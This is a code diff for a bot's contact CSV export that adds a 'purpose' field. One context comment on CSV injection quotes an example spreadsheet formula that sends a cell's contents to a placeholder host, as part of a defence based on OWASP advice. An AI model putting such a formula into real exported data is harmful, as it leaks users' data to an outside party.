@@ -15,7 +15,7 @@ from bot.models import Conference, Contact, Member
 from bot.replies import Attachment, Reply
 from bot.store.repository import contacts_of, pending_nudges_by_contact
 
-CSV_FIELDS = ("name", "stage", "where_met", "met_at", "notes", "interests", "offer", "tags",
+CSV_FIELDS = ("name", "stage", "where_met", "met_at", "notes", "interests", "offer", "purpose", "tags",
               "platform_user_id", "next_nudge", "next_nudge_at", "meetings")
 # A spreadsheet reads a cell starting with one of these as a formula (`=IMAGE("//host/?"&E2)` as a Discord
 # display name): OWASP's CSV injection advice is to start such a cell with a single quote, which makes it
@@ -83,6 +83,7 @@ def _contact_dict(contact: Contact, nudge: Any) -> dict[str, Any]:
         "notes": contact.notes,
         "interests": list(contact.interests or []),
         "offer": contact.offer,
+        "purpose": contact.purpose,  # the member's answer to "What's this message for?"
         "tags": list(contact.tags or []),
         "platform_user_id": contact.platform_user_id,
         "next_nudge": nudge.kind if nudge else None,
